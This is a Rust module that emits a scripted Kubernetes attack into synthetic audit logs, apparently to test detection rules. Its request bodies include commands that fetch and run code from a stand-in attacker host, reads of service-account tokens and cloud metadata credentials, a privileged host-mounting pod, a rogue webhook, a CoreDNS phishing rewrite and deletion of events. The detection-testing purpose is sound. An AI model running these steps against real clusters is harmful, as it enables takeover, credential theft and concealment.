//! Attack scenarios woven into the generated log. They tell one incident, in order:
//!
//! an anonymous scan from a Tor exit; then the stolen credentials of `dave@example.com` (a
//! platform admin) used from an unknown public address with a Python client: reconnaissance,
//! secret reads, RBAC escalation and persistence, privileged and host-mounting workloads,
//! exec/attach/port-forward and a debug container, service-account tokens, impersonation,
//! exposure (NodePort, webhook, CronJob, credentials in a ConfigMap, CoreDNS), a stolen
//! service-account token used from outside, and finally deleting events and bindings.
//! `samples/README.md` lists each step with the detection it should trigger.

use std::io;

use serde_json::{Value, json};

use super::actors::Cluster;
use super::{EventWriter, Level, Request, Rng, User};

pub struct Ctx<'a, 'w> {
    pub rng: &'a mut Rng,
    pub cluster: &'a Cluster,
    pub w: &'a mut EventWriter<'w>,
    pub t: &'a mut i64,
}

impl Ctx<'_, '_> {
    /// Emits a request at the current time, then advances the clock by `gap_ms`.
    fn at(&mut self, req: Request, gap_ms: i64) -> io::Result<()> {
        self.w.emit(self.rng, &req, *self.t)?;
        *self.t += gap_ms * 1000;
        Ok(())
    }
}

pub struct Scenario {
    /// Where in the background timeline (0..1) it happens.
    pub at_fraction: f64,
    pub run: fn(&mut Ctx) -> io::Result<()>,
}

pub fn plan() -> Vec<Scenario> {
    vec![
        Scenario {
            at_fraction: 0.08,
            run: anonymous_scan,
        },
        Scenario {
            at_fraction: 0.18,
            run: recon,
        },
        Scenario {
            at_fraction: 0.28,
            run: secret_reads,
        },
        Scenario {
            at_fraction: 0.38,
            run: rbac_escalation,
        },
        Scenario {
            at_fraction: 0.46,
            run: privileged_workloads,
        },
        Scenario {
            at_fraction: 0.54,
            run: interactive_access,
        },
        Scenario {
            at_fraction: 0.62,
            run: tokens_and_impersonation,
        },
        Scenario {
            at_fraction: 0.70,
            run: anonymous_access_after_grant,
        },
        Scenario {
            at_fraction: 0.78,
            run: persistence_and_exposure,
        },
        Scenario {
            at_fraction: 0.86,
            run: stolen_token_from_outside,
        },
        Scenario {
            at_fraction: 0.94,
            run: cover_tracks,
        },
    ]
}

pub const ATTACKER_IP: &str = "198.51.100.23";
pub const TOR_EXIT_IP: &str = "185.220.101.47";
pub const OUTSIDE_IP: &str = "203.0.113.77";
const PY_UA: &str = "python-requests/2.31.0";

fn dave() -> User {
    User::new(
        "dave@example.com",
        &["oidc:platform-admins", "system:authenticated"],
    )
}

fn anonymous() -> User {
    User::new("system:anonymous", &["system:unauthenticated"])
}

const ADMIN_REASON: &str = "RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to Group \"oidc:platform-admins\"";

fn dave_req(verb: &'static str, uri: impl Into<String>) -> Request {
    Request::new(verb, uri, &dave(), ATTACKER_IP, PY_UA).reason(ADMIN_REASON)
}

fn anonymous_scan(c: &mut Ctx) -> io::Result<()> {
    let ua = "Mozilla/5.0 zgrab/0.x";
    for (path, resource, ns) in [
        ("/", None, None),
        ("/api", None, None),
        ("/apis", None, None),
        ("/version", None, None),
        ("/api/v1/namespaces", Some("namespaces"), None),
        ("/api/v1/pods", Some("pods"), None),
        ("/api/v1/secrets", Some("secrets"), None),
        (
            "/api/v1/namespaces/kube-system/secrets",
            Some("secrets"),
            Some("kube-system"),
        ),
        (
            "/api/v1/namespaces/kube-system/configmaps",
            Some("configmaps"),
            Some("kube-system"),
        ),
        (
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            Some("clusterrolebindings"),
            None,
        ),
        ("/api/v1/nodes", Some("nodes"), None),
        ("/apis/apps/v1/deployments", Some("deployments"), None),
        (
            "/api/v1/namespaces/default/serviceaccounts",
            Some("serviceaccounts"),
            Some("default"),
        ),
        ("/metrics", None, None),
    ] {
        let verb = if resource.is_some() { "list" } else { "get" };
        let mut req = Request::new(verb, path, &anonymous(), TOR_EXIT_IP, ua).latency(300);
        if let Some(r) = resource {
            req = req.object(r, ns, None);
        }
        let allowed = path == "/version";
        req = if allowed {
            req.reason("RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\" of ClusterRole \"system:public-info-viewer\" to Group \"system:unauthenticated\"")
        } else {
            req.code(403)
        };
        c.at(req, 700)?;
    }
    Ok(())
}

fn recon(c: &mut Ctx) -> io::Result<()> {
    let review = json!({"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"default"},"status":{"resourceRules":null,"nonResourceRules":null,"incomplete":false}});
    c.at(
        dave_req(
            "create",
            "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        )
        .object("selfsubjectrulesreviews", None, None)
        .code(201)
        .level(Level::RequestResponse)
        .bodies(Some(review.clone()), Some(review)),
        1500,
    )?;
    for resource in [
        "namespaces",
        "nodes",
        "pods",
        "serviceaccounts",
        "configmaps",
        "roles",
        "rolebindings",
        "clusterroles",
        "clusterrolebindings",
        "secrets",
    ] {
        let (group, version) = super::api_group_version(resource);
        let prefix = group.map_or("/api/v1".to_owned(), |g| format!("/apis/{g}/{version}"));
        c.at(
            dave_req("list", format!("{prefix}/{resource}?limit=500"))
                .object(resource, None, None)
                .latency(9_000),
            900,
        )?;
    }
    // Probing for things the account may not have: a run of denials.
    for ns in [
        "kube-system",
        "payments",
        "argocd",
        "monitoring",
        "cert-manager",
        "web",
    ] {
        for resource in ["pods/exec", "secrets"] {
            let (res, sub) = resource
                .split_once('/')
                .map_or((resource, None), |(r, s)| (r, Some(s)));
            let uri = match sub {
                Some(s) => format!("/api/v1/namespaces/{ns}/pods/probe/{s}?command=id"),
                None => format!("/api/v1/namespaces/{ns}/{res}/admin-token"),
            };
            let mut req = Request::new(
                "get",
                uri,
                &User::service_account("default", "default"),
                ATTACKER_IP,
                PY_UA,
            )
            .object(
                res,
                Some(ns),
                Some(if sub.is_some() {
                    "probe"
                } else {
                    "admin-token"
                }),
            )
            .code(403)
            .latency(500);
            if let Some(s) = sub {
                req = req.subresource(s);
            }
            c.at(req, 400)?;
        }
    }
    Ok(())
}

fn secret_reads(c: &mut Ctx) -> io::Result<()> {
    c.at(
        dave_req("list", "/api/v1/secrets?limit=500")
            .object("secrets", None, None)
            .latency(25_000),
        3_000,
    )?;
    for (ns, name) in [
        ("payments", "db-password"),
        ("payments", "stripe-api-key"),
        ("payments", "api-tls"),
        ("payments", "pg-replication"),
        ("argocd", "argocd-secret"),
        ("monitoring", "grafana-admin"),
        ("cert-manager", "letsencrypt-prod"),
    ] {
        c.at(
            dave_req("get", format!("/api/v1/namespaces/{ns}/secrets/{name}")).object(
                "secrets",
                Some(ns),
                Some(name),
            ),
            2_000,
        )?;
    }
    Ok(())
}

fn binding(
    kind: &str,
    name: &str,
    ns: Option<&str>,
    role_kind: &str,
    role: &str,
    subjects: Value,
) -> Value {
    let mut metadata = json!({"name": name});
    if let Some(ns) = ns {
        metadata["namespace"] = ns.into();
    }
    json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": metadata,
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role}, "subjects": subjects})
}

fn with_server_fields(rng: &mut Rng, mut v: Value) -> Value {
    v["metadata"]["uid"] = rng.uuid().into();
    v["metadata"]["resourceVersion"] = (48_500_000 + rng.below(100_000)).to_string().into();
    v["metadata"]["creationTimestamp"] = "2026-11-20T08:30:00Z".into();
    v
}

fn create(
    c: &mut Ctx,
    uri: &str,
    resource: &str,
    ns: Option<&str>,
    name: &str,
    body: Value,
    gap_ms: i64,
) -> io::Result<()> {
    let response = with_server_fields(c.rng, body.clone());
    c.at(
        dave_req("create", uri)
            .object(resource, ns, Some(name))
            .code(201)
            .level(Level::RequestResponse)
            .bodies(Some(body), Some(response))
            .latency(7_000),
        gap_ms,
    )
}

fn rbac_escalation(c: &mut Ctx) -> io::Result<()> {
    create(
        c,
        "/api/v1/namespaces/kube-system/serviceaccounts",
        "serviceaccounts",
        Some("kube-system"),
        "backup",
        json!({"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":"backup","namespace":"kube-system"}}),
        4_000,
    )?;
    create(
        c,
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "clusterrolebindings",
        None,
        "backup-operator",
        binding(
            "ClusterRoleBinding",
            "backup-operator",
            None,
            "ClusterRole",
            "cluster-admin",
            json!([{"kind": "ServiceAccount", "name": "backup", "namespace": "kube-system"}]),
        ),
        5_000,
    )?;
    create(
        c,
        "/apis/rbac.authorization.k8s.io/v1/clusterroles",
        "clusterroles",
        None,
        "ops-superuser",
        json!({"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"ops-superuser"},
            "rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}),
        4_000,
    )?;
    create(
        c,
        "/apis/rbac.authorization.k8s.io/v1/clusterroles",
        "clusterroles",
        None,
        "node-debugger",
        json!({"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"node-debugger"},
            "rules":[{"apiGroups":[""],"resources":["pods/exec","pods/attach"],"verbs":["create","get"]},
                     {"apiGroups":[""],"resources":["nodes/proxy"],"verbs":["get","create"]}]}),
        4_000,
    )?;
    create(
        c,
        "/apis/rbac.authorization.k8s.io/v1/namespaces/default/rolebindings",
        "rolebindings",
        Some("default"),
        "public-view",
        binding(
            "RoleBinding",
            "public-view",
            Some("default"),
            "ClusterRole",
            "view",
            json!([{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:anonymous"}]),
        ),
        6_000,
    )?;
    // A system role quietly widened.
    let patch = json!({"rules":[{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list","watch"]}]});
    c.at(
        dave_req(
            "patch",
            "/apis/rbac.authorization.k8s.io/v1/clusterroles/system:aggregate-to-view",
        )
        .object("clusterroles", None, Some("system:aggregate-to-view"))
        .level(Level::RequestResponse)
        .bodies(Some(patch), None)
        .latency(6_000),
        10_000,
    )
}

fn privileged_workloads(c: &mut Ctx) -> io::Result<()> {
    let node = c.cluster.nodes[3].clone();
    let pod = json!({"kind":"Pod","apiVersion":"v1","metadata":{"name":"node-debugger","namespace":"kube-system"},
        "spec":{"hostPID":true,"hostNetwork":true,"hostIPC":true,"nodeName":node,"serviceAccountName":"backup",
            "containers":[{"name":"shell","image":"docker.io/library/alpine:3.20","command":["sleep","infinity"],
                "securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN","SYS_PTRACE"]}},
                "volumeMounts":[{"name":"host","mountPath":"/host"}]}],
            "volumes":[{"name":"host","hostPath":{"path":"/","type":""}}]}});
    let response = with_server_fields(c.rng, pod.clone());
    c.at(
        dave_req("create", "/api/v1/namespaces/kube-system/pods")
            .object("pods", Some("kube-system"), Some("node-debugger"))
            .code(201)
            .level(Level::RequestResponse)
            .bodies(Some(pod), Some(response))
            .annotate(
                "pod-security.kubernetes.io/enforce-policy",
                "privileged:latest",
            )
            .latency(9_000),
        20_000,
    )?;
    let ds = json!({"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"log-collector","namespace":"kube-system"},
        "spec":{"selector":{"matchLabels":{"app":"log-collector"}},"template":{"metadata":{"labels":{"app":"log-collector"}},
            "spec":{"hostNetwork":true,"tolerations":[{"operator":"Exists"}],
                "containers":[{"name":"collector","image":"ghcr.io/l0g-c0llect/agent:latest","securityContext":{"privileged":true},
                    "volumeMounts":[{"name":"sock","mountPath":"/run/containerd/containerd.sock"}]}],
                "volumes":[{"name":"sock","hostPath":{"path":"/run/containerd/containerd.sock","type":"Socket"}}]}}}});
    create(
        c,
        "/apis/apps/v1/namespaces/kube-system/daemonsets",
        "daemonsets",
        Some("kube-system"),
        "log-collector",
        ds,
        30_000,
    )
}

fn interactive_access(c: &mut Ctx) -> io::Result<()> {
    let api_pod = c.cluster.apps[0].pods[0].clone();
    let pg_pod = c.cluster.apps[2].pods[0].clone();
    let exec = |ns: &str, pod: &str, container: &str, command: &[&str]| {
        let query: String = command
            .iter()
            .map(|a| {
                format!(
                    "command={}&",
                    percent_encoding::utf8_percent_encode(a, percent_encoding::NON_ALPHANUMERIC)
                )
            })
            .collect();
        dave_req("create", format!("/api/v1/namespaces/{ns}/pods/{pod}/exec?{query}container={container}&stdin=true&stdout=true&tty=true"))
            .object("pods", Some(ns), Some(pod))
            .subresource("exec")
            .streaming()
            .code(101)
            .latency(40_000)
    };
    c.at(
        exec(
            "payments",
            &api_pod,
            "api",
            &[
                "sh",
                "-c",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            ],
        ),
        15_000,
    )?;
    c.at(
        exec(
            "payments",
            &api_pod,
            "api",
            &[
                "sh",
                "-c",
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            ],
        ),
        20_000,
    )?;
    c.at(
        exec(
            "kube-system",
            "node-debugger",
            "shell",
            &["chroot", "/host", "bash"],
        ),
        60_000,
    )?;
    c.at(
        dave_req("create", format!("/api/v1/namespaces/payments/pods/{pg_pod}/attach?container=postgres&stdin=true&stdout=true&tty=true"))
            .object("pods", Some("payments"), Some(&pg_pod))
            .subresource("attach")
            .streaming()
            .code(101),
        20_000,
    )?;
    c.at(
        dave_req(
            "create",
            format!("/api/v1/namespaces/payments/pods/{pg_pod}/portforward?ports=5432"),
        )
        .object("pods", Some("payments"), Some(&pg_pod))
        .subresource("portforward")
        .streaming()
        .code(101),
        30_000,
    )?;
    let debug = json!({"kind":"Pod","apiVersion":"v1","metadata":{"name":api_pod,"namespace":"payments"},
        "spec":{"containers":[{"name":"api","image":"registry.example.com/payments/api:4.12.0"}],
            "ephemeralContainers":[{"name":"debugger-7xk2p","image":"docker.io/nicolaka/netshoot:v0.13","targetContainerName":"api",
                "stdin":true,"tty":true,"securityContext":{"privileged":true}}]}});
    c.at(
        dave_req(
            "patch",
            format!("/api/v1/namespaces/payments/pods/{api_pod}/ephemeralcontainers"),
        )
        .object("pods", Some("payments"), Some(&api_pod))
        .subresource("ephemeralcontainers")
        .level(Level::RequestResponse)
        .bodies(Some(debug), None),
        20_000,
    )?;
    let node = c.cluster.nodes[3].clone();
    c.at(
        dave_req("get", format!("/api/v1/nodes/{node}/proxy/pods"))
            .object("nodes", None, Some(&node))
            .subresource("proxy")
            .latency(30_000),
        10_000,
    )
}

fn tokens_and_impersonation(c: &mut Ctx) -> io::Result<()> {
    let token_request = json!({"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}});
    c.at(
        dave_req(
            "create",
            "/api/v1/namespaces/kube-system/serviceaccounts/backup/token",
        )
        .object("serviceaccounts", Some("kube-system"), Some("backup"))
        .subresource("token")
        .code(201)
        .bodies(Some(token_request), None),
        5_000,
    )?;
    c.at(
        dave_req("create", "/api/v1/namespaces/kube-system/secrets")
            .object("secrets", Some("kube-system"), Some("backup-token"))
            .code(201),
        5_000,
    )?;
    let admin = User::new("system:admin", &["system:masters", "system:authenticated"]);
    c.at(
        dave_req("list", "/api/v1/namespaces/kube-system/secrets?limit=500")
            .impersonate(admin)
            .object("secrets", Some("kube-system"), None)
            .reason(""),
        4_000,
    )?;
    c.at(
        dave_req(
            "get",
            "/api/v1/namespaces/kube-system/configmaps/kubeadm-config",
        )
        .impersonate(User::service_account(
            "kube-system",
            "clusterrole-aggregation-controller",
        ))
        .object("configmaps", Some("kube-system"), Some("kubeadm-config"))
        .code(404),
        6_000,
    )
}

fn anonymous_access_after_grant(c: &mut Ctx) -> io::Result<()> {
    let ua = "curl/8.5.0";
    c.at(
        Request::new("list", "/api/v1/namespaces/default/pods", &anonymous(), TOR_EXIT_IP, ua)
            .object("pods", Some("default"), None)
            .reason("RBAC: allowed by RoleBinding \"public-view/default\" of ClusterRole \"view\" to Group \"system:anonymous\""),
        2_000,
    )?;
    c.at(
        Request::new("list", "/api/v1/namespaces/default/configmaps", &anonymous(), TOR_EXIT_IP, ua)
            .object("configmaps", Some("default"), None)
            .reason("RBAC: allowed by RoleBinding \"public-view/default\" of ClusterRole \"view\" to Group \"system:anonymous\""),
        2_000,
    )?;
    let pod = json!({"kind":"Pod","apiVersion":"v1","metadata":{"name":"x"},"spec":{"containers":[{"name":"x","image":"docker.io/library/busybox","command":["sh","-c","wget -qO- http://198.51.100.23/m | sh"]}]}});
    c.at(
        Request::new(
            "create",
            "/api/v1/namespaces/default/pods",
            &anonymous(),
            TOR_EXIT_IP,
            ua,
        )
        .object("pods", Some("default"), Some("x"))
        .level(Level::RequestResponse)
        .bodies(Some(pod), None)
        .code(403),
        5_000,
    )
}

fn persistence_and_exposure(c: &mut Ctx) -> io::Result<()> {
    let webhook = json!({"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-policy.example.io"},
        "webhooks":[{"name":"pod-policy.example.io","clientConfig":{"url":"https://198.51.100.23:8443/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}],
            "failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"]}]});
    create(
        c,
        "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations",
        "mutatingwebhookconfigurations",
        None,
        "pod-policy.example.io",
        webhook,
        8_000,
    )?;
    let cron = json!({"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"cache-warmup","namespace":"kube-system"},
        "spec":{"schedule":"*/10 * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"OnFailure","serviceAccountName":"backup",
            "containers":[{"name":"warm","image":"docker.io/curlimages/curl:8.10.1","command":["sh","-c","curl -s http://198.51.100.23/k | sh"]}]}}}}}});
    create(
        c,
        "/apis/batch/v1/namespaces/kube-system/cronjobs",
        "cronjobs",
        Some("kube-system"),
        "cache-warmup",
        cron,
        8_000,
    )?;
    let csr = json!({"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"dave-laptop"},
        "spec":{"request":"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"]}});
    create(
        c,
        "/apis/certificates.k8s.io/v1/certificatesigningrequests",
        "certificatesigningrequests",
        None,
        "dave-laptop",
        csr,
        6_000,
    )?;
    let svc = json!({"kind":"Service","apiVersion":"v1","metadata":{"name":"pg-external","namespace":"payments"},
        "spec":{"type":"NodePort","selector":{"app":"postgres"},"ports":[{"port":5432,"targetPort":5432,"nodePort":30432}]}});
    create(
        c,
        "/api/v1/namespaces/payments/services",
        "services",
        Some("payments"),
        "pg-external",
        svc,
        6_000,
    )?;
    let cm = json!({"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"backup-config","namespace":"kube-system"},
        "data":{"aws_access_key_id":"AKIAIOSFODNN7EXAMPLE","aws_secret_access_key":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY","bucket":"s3://exfil-198-51-100-23"}});
    c.at(
        dave_req("create", "/api/v1/namespaces/kube-system/configmaps")
            .object("configmaps", Some("kube-system"), Some("backup-config"))
            .code(201)
            .level(Level::Request)
            .bodies(Some(cm), None),
        6_000,
    )?;
    let corefile = json!({"data":{"Corefile":".:53 {\n    errors\n    health\n    rewrite name login.microsoftonline.com phish.198-51-100-23.nip.io\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n       fallthrough in-addr.arpa ip6.arpa\n    }\n    forward . /etc/resolv.conf\n    cache 30\n}\n"}});
    c.at(
        dave_req("patch", "/api/v1/namespaces/kube-system/configmaps/coredns")
            .object("configmaps", Some("kube-system"), Some("coredns"))
            .level(Level::Request)
            .bodies(Some(corefile), None),
        6_000,
    )?;
    let sidecar = json!({"spec":{"template":{"spec":{"containers":[{"name":"metrics-proxy","image":"ghcr.io/l0g-c0llect/agent:latest","args":["--upstream=http://198.51.100.23:9000"]}]}}}});
    c.at(
        dave_req(
            "patch",
            "/apis/apps/v1/namespaces/payments/deployments/api?fieldManager=kubectl-patch",
        )
        .object("deployments", Some("payments"), Some("api"))
        .level(Level::RequestResponse)
        .bodies(Some(sidecar), None),
        6_000,
    )?;
    create(
        c,
        "/api/v1/namespaces",
        "namespaces",
        None,
        "crypto-miner",
        json!({"kind":"Namespace","apiVersion":"v1","metadata":{"name":"crypto-miner"}}),
        8_000,
    )
}

fn stolen_token_from_outside(c: &mut Ctx) -> io::Result<()> {
    let sa = User::service_account("payments", "payments-api");
    let reason = "RBAC: allowed by RoleBinding \"payments-api/payments\" of Role \"payments-api\" to ServiceAccount \"payments-api/payments\"";
    for name in ["db-password", "stripe-api-key"] {
        c.at(
            Request::new(
                "get",
                format!("/api/v1/namespaces/payments/secrets/{name}"),
                &sa,
                OUTSIDE_IP,
                "Go-http-client/2.0",
            )
            .object("secrets", Some("payments"), Some(name))
            .reason(reason),
            3_000,
        )?;
    }
    c.at(
        Request::new(
            "list",
            "/api/v1/namespaces/kube-system/secrets",
            &sa,
            OUTSIDE_IP,
            "Go-http-client/2.0",
        )
        .object("secrets", Some("kube-system"), None)
        .code(403),
        3_000,
    )
}

fn cover_tracks(c: &mut Ctx) -> io::Result<()> {
    c.at(
        dave_req("delete", "/api/v1/namespaces/kube-system/events")
            .object("events", Some("kube-system"), None)
            .level(Level::Request),
        4_000,
    )?;
    c.at(
        dave_req("delete", "/api/v1/namespaces/payments/events")
            .object("events", Some("payments"), None)
            .level(Level::Request),
        4_000,
    )?;
    c.at(
        dave_req(
            "delete",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/backup-operator",
        )
        .object("clusterrolebindings", None, Some("backup-operator"))
        .level(Level::RequestResponse),
        4_000,
    )?;
    c.at(
        dave_req(
            "delete",
            "/api/v1/namespaces/kube-system/secrets/backup-token",
        )
        .object("secrets", Some("kube-system"), Some("backup-token")),
        4_000,
    )?;
    c.at(
        dave_req(
            "delete",
            "/apis/apps/v1/namespaces/web/deployments/frontend",
        )
        .object("deployments", Some("web"), Some("frontend"))
        .level(Level::RequestResponse),
        4_000,
    )?;
    Ok(())
}
